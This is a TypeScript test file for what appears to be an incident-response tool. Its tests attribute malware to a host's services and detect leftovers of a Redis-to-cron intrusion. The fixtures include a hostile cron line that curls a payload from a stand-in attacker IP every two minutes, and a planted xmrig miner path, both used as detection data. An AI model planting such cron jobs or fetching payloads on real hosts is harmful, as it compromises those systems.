import assert from 'node:assert/strict'
import { test } from 'node:test'
import { incidentOf, processOrigin } from '../../test/events.ts'
import { processOf, socketOf, userOf } from '../../test/facts.ts'
import { factsOf } from '../core/facts.ts'
import { some } from '../core/some.ts'
import { standingOf } from './standing.ts'

const base = incidentOf().findings[0]
const next = processOf({ pid: 700, name: 'node', argv: ['next-server (v15.1.6)'], cgroup: ['0::/system.slice/shop.service'] })
const facts = factsOf({
  processes: [next],
  sockets: [
    socketOf({ state: 'LISTEN', local: { address: '0.0.0.0', port: 3000 }, remote: { address: '0.0.0.0', port: 0 }, owners: [next.id] }),
  ],
  users: [userOf({ name: 'node', uid: 1000 })],
})

test('a service is known by its name and by what its arguments say it serves', () => {
  const { services, looked } = standingOf(undefined, facts)
  assert.equal(looked, true)
  assert.deepEqual(
    services.map(s => [s.name, ...s.listens]),
    [
      ['node', '0.0.0.0:3000'],
      ['next-server', '0.0.0.0:3000'],
    ],
  )
  assert.equal(standingOf(undefined, undefined).looked, false)
})

test('what else runs in the malware’s unit tells which service it is', () => {
  const process = processOrigin(4242, '2026-05-01 03:20:00', { cgroup: '/system.slice/shop.service', uid: 1000 })
  const { causal, owners } = standingOf(incidentOf({ origins: { processes: [process], files: [] } }), facts)
  assert.ok(causal.some(c => c.key === 'beside' && c.value.includes('next-server')))
  assert.deepEqual(owners, ['node'])
  const cron = processOrigin(4242, '2026-05-01 03:20:00', { cgroup: '/system.slice/cron.service' })
  assert.ok(!standingOf(incidentOf({ origins: { processes: [cron], files: [] } }), facts).causal.some(c => c.key === 'beside'))
})

test('a unit that the intruder wrote tells nothing, whatever he called it', () => {
  const process = processOrigin(4242, '2026-05-01 03:20:00', { cgroup: '/system.slice/redis-cache.service' })
  const origins = { processes: [process], files: [] }
  const cgroups = (...members: `file:${string}`[]) =>
    standingOf(incidentOf({ origins, members }), facts)
      .causal.filter(c => c.key === 'cgroup')
      .map(c => c.value)
  assert.deepEqual(cgroups('file:/etc/systemd/system/redis-cache.service'), [])
  assert.deepEqual(cgroups('file:/tmp/.x/xmrig'), ['/system.slice/redis-cache.service'])
})

test('remains: a dump of Redis among jobs and keys; an ordinary job is none', () => {
  const dump = {
    ...base,
    id: 'F-2',
    evidence: some([
      { source: 'autostart', locator: '/etc/cron.d/x:1', excerpt: 'REDIS0009\u{dcfa}\n*/2 * * * * curl http://192.0.2.7/x' },
    ])!,
  }
  const key = { ...base, id: 'F-3', title: { zh: '', en: 'the key file of account root is a binary dump that was written there' } }
  const job = { ...base, id: 'F-4', evidence: some([{ source: 'autostart', locator: '/etc/cron.d/y:1', excerpt: 'redis-cli save' }])! }
  const stored = (path: string) => ({
    ...base,
    id: 'F-5',
    about: some([`autostart:redis-dump:${path}` as const])!,
    evidence: some([{ source: 'autostart', locator: `${path}:3`, excerpt: 'REDIS0010' }])!,
  })
  const of = (...findings: (typeof base)[]) => standingOf(incidentOf({ findings: some(findings)! }), undefined).remains.map(r => r.key)
  assert.deepEqual(of(dump), ['redis-dump', 'url'])
  assert.deepEqual(of(key), ['redis-dump'])
  assert.deepEqual(of(job), [])
  assert.deepEqual(of(stored('/var/spool/cron/crontabs/root')), ['redis-dump'])
  // Near miss: what somebody put into its data and nothing runs.
  assert.deepEqual(of(stored('/var/lib/redis/dump.rdb')), ['redis-value'])
})

test('settings of what does not run open nothing on a running host, but do on a disk', () => {
  const footprints = { services: [{ name: 'redis-server', listens: ['0.0.0.0:6379'] }], settings: ['redis.requirepass='] }
  const live = standingOf(undefined, facts, footprints)
  assert.deepEqual([live.settings, live.services.find(s => s.name === 'redis-server')?.listens], [[], []])
  const disk = standingOf(undefined, factsOf(), footprints)
  assert.deepEqual([disk.settings, disk.services[0]?.listens], [['redis.requirepass='], ['0.0.0.0:6379']])
})
